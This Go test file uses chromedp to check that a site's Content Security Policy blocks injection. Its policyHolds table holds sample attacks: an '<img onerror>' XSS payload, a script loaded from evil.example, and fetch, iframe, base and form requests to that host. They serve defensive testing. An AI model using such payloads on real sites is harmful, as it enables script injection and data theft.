package main

import (
	"fmt"
	"slices"
	"strings"

	"accords/web/words"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// witness notes what the content security policy stops, from before the first
// script of a page: the console would have it too, and a console can be changed.
const witness = `window.stopped = [];
	addEventListener("securitypolicyviolation", e => window.stopped.push(e.effectiveDirective + " " + (e.blockedURI || e.sample)));`

// stopped are the violations of the page as it stands, once it has come to rest.
func (t *tab) stopped() []string {
	t.Helper()
	t.until("the page has come to rest", `document.readyState === "complete"`)
	return eval[[]string](t, `new Promise(done => setTimeout(() => done(window.stopped), 50))`)
}

// watch makes every page of the tab tell what was stopped on it.
func (t *tab) watch() {
	t.Helper()
	if _, err := chromedp.Call(t.ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: witness}); err != nil {
		t.Fatal(err)
	}
}

// keepsPolicy opens every kind of page in both languages, opens and presses what
// there is, and wants nothing to be stopped by the policy, which takes trusted
// types alone. That the witness sees a violation is shown by none of our pages
// but by attempts of its own.
func keepsPolicy(t *tab) {
	t.watch()
	kinds := t.kinds()
	for _, l := range words.Langs() {
		for kind, path := range kinds {
			t.open(l.Path(path))
			if policy := eval[string](t, `fetch(location.href).then(r => r.headers.get("Content-Security-Policy"))`); !strings.Contains(policy, "require-trusted-types-for 'script'") || !strings.Contains(policy, "default-src 'none'") {
				t.Errorf("%s: its policy is %q", kind, policy)
			}
			t.do(chromedp.Evaluate[chromedp.Void](`document.querySelectorAll("details").forEach(d => d.open = true); document.querySelector("main input[type=checkbox]")?.click()`))
			if stopped := t.stopped(); len(stopped) > 0 {
				t.Errorf("%s (%s): the policy stopped %q", kind, l.Path(path), stopped)
			}
		}
	}
}

// policyHolds tries on a page what an attacker would who got a word into it.
func policyHolds(t *tab) {
	t.watch()
	t.complain = false // what is stopped is said on the console, too
	for name, try := range map[string]struct{ script, stopped string }{
		"text as a page":          {`document.body.innerHTML = "<img src=x onerror=alert(1)>"`, "require-trusted-types-for"},
		"text as a script":        {`setTimeout("1")`, "require-trusted-types-for"}, // eval is the driver's to use
		"a script of another":     {`{ const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.head.append(s) }`, "require-trusted-types-for"},
		"a style in the page":     {`{ const s = document.createElement("style"); s.textContent = "*{}"; document.head.append(s) }`, "style-src-elem"},
		"a picture of another":    {`new Image().src = "https://evil.example/x.png"`, "img-src"},
		"a question to another":   {`fetch("https://evil.example/").catch(() => {})`, "connect-src"},
		"a frame":                 {`document.body.append(Object.assign(document.createElement("iframe"), {src: "https://evil.example/"}))`, "frame-src"},
		"another base":            {`document.head.append(Object.assign(document.createElement("base"), {href: "https://evil.example/"}))`, "base-uri"},
		"a policy of its own":     {`trustedTypes.createPolicy("evil", {createHTML: s => s})`, "trusted-types"},
		"a second policy of ours": {`trustedTypes.createPolicy("htmx", {createHTML: s => s})`, "trusted-types"},
		"a form that leads away":  {`{ const f = document.createElement("form"); f.action = "https://evil.example/"; document.body.append(f); f.submit() }`, "form-action"},
	} {
		t.open("/about")
		t.until("the page has come to rest", `document.readyState === "complete"`)
		t.do(chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`try { (() => { %s })() } catch {}; new Promise(done => setTimeout(done, 300))`, try.script), chromedp.EvalAwaitPromise))
		if got := t.stopped(); !slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, try.stopped+" ") }) {
			t.Errorf("%s: the policy stopped %q, want %s", name, got, try.stopped)
		}
	}
}
